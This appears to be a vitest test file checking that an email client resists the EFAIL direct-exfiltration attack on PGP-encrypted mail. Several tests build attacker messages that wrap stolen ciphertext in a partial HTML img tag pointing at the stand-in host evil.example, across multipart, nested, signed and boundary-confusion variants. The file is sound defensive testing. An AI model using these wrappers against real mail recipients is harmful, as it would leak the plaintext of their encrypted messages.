// EFAIL, direct exfiltration (Poddebniak and others, 2018): somebody else's ciphertext between HTML parts that would send its
// plaintext away if all were drawn as one document.
import { beforeAll, describe, expect, it } from "vitest";
import {
  aliceSide,
  drawn,
  head,
  isPositive,
  mixed,
  pgpMime,
  read,
  SECRET,
  type Side,
  sealed,
  stateOf,
  textPart,
} from "./world";

let side: Side;
let stolen: string;

beforeAll(async () => {
  side = await aliceSide();
  stolen = await sealed(side, textPart(SECRET));
});

const OPEN = textPart('<img src="https://evil.example/', "text/html");
const CLOSE = textPart('">', "text/html");

describe("ciphertext wrapped in an attacker's HTML", () => {
  it.each([
    ["as PGP/MIME", () => pgpMime(stolen)],
    ["as a text part", () => textPart(stolen)],
    ["as HTML", () => textPart(`<pre>${stolen}</pre>`, "text/html")],
    ["as encrypted.asc", () => `Content-Type: application/octet-stream; name="encrypted.asc"\n\n${stolen}`],
    ["in a forwarded message", () => `Content-Type: message/rfc822\n\n${head()}${pgpMime(stolen)}`],
  ])("%s is not opened with the message, and the message is not called sealed or signed", async (_, part) => {
    for (const around of ["multipart/mixed", "multipart/related", "multipart/alternative", "multipart/parallel"]) {
      side.calls.length = 0;
      const body = mixed(OPEN, part(), CLOSE).replace("multipart/mixed", around);
      const message = await read(side, head() + body);
      expect(message.kind).toBe("clear");
      expect(drawn(message)).not.toContain(SECRET);
      expect(side.calls).toEqual([]);
    }
  });

  it("in a multipart/encrypted with a third part is no layer", async () => {
    for (const at of ["\n\n--enc\n", "--enc--"]) {
      const body = pgpMime(stolen).replace(at, `${at.startsWith("\n") ? "\n\n" : ""}--enc\n${OPEN}\n${at.trimStart()}`);
      const message = await read(side, head() + body);
      expect(message.kind).toBe("clear");
      expect(drawn(message)).not.toContain(SECRET);
    }
  });

  it("in the preamble, the epilogue or the cover of an honest shape leaves nothing of it in what is drawn", async () => {
    const evil = '<img src="https://evil.example/';
    const wrapped = pgpMime(stolen).replace("\n\n--enc", `\n\n${evil}\n--enc`).concat(evil);
    const message = await read(side, head() + wrapped);
    expect(stateOf(message)).toBe("verified");
    expect(drawn(message)).toContain(SECRET);
    expect(drawn(message)).not.toContain("evil");
    const exchange = mixed(
      OPEN,
      "Content-Type: application/pgp-encrypted\n\nVersion: 1\n",
      `Content-Type: application/octet-stream; name="encrypted.asc"\n\n${stolen}`,
    );
    const shown = await read(side, head() + exchange);
    expect(drawn(shown)).toContain(SECRET);
    expect(drawn(shown)).not.toContain("evil");
  });

  it("sealed once more by the attacker stays closed, and the attacker's signature is not Bob's", async () => {
    const message = await read(
      side,
      head() + pgpMime(await sealed(side, mixed(OPEN, pgpMime(stolen), CLOSE), side.mallory)),
    );
    expect(stateOf(message)).toBe("other-address");
    expect(drawn(message)).not.toContain(SECRET);
    const nested = await read(side, head() + pgpMime(await sealed(side, pgpMime(stolen), side.mallory)));
    expect(isPositive(stateOf(nested))).toBe(false);
    expect(drawn(nested)).not.toContain(SECRET);
  });

  it("with boundaries that readers cut differently is no layer", async () => {
    const twice = `Content-Type: multipart/mixed; boundary=x\n${pgpMime(stolen)}`;
    const conflicting = pgpMime(stolen).replace('boundary="enc"', 'boundary="enc"; boundary="other"');
    const prefixed = mixed(OPEN, pgpMime(stolen).replaceAll("enc", "mix"), CLOSE);
    for (const body of [twice, conflicting, prefixed]) {
      const message = await read(side, head() + body);
      expect(message.kind).toBe("clear");
      expect(drawn(message)).not.toContain(SECRET);
    }
  });
});
